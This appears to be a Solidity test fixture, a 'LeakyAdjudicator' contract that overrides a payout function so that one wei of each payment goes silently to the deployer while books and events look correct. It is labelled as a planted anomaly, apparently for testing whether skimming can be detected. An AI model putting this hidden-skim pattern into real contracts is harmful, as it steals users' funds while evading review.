// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Adjudicator} from "./Adjudicator.sol";

/// A planted anomaly: one wei of each payout goes to whoever deployed it. Books and events look right.
contract LeakyAdjudicator is Adjudicator {
  address private immutable thief = msg.sender;

  function pay(address asset, address to, uint256 amount) internal override {
    super.pay(asset, thief, 1);
    super.pay(asset, to, amount - 1);
  }
}
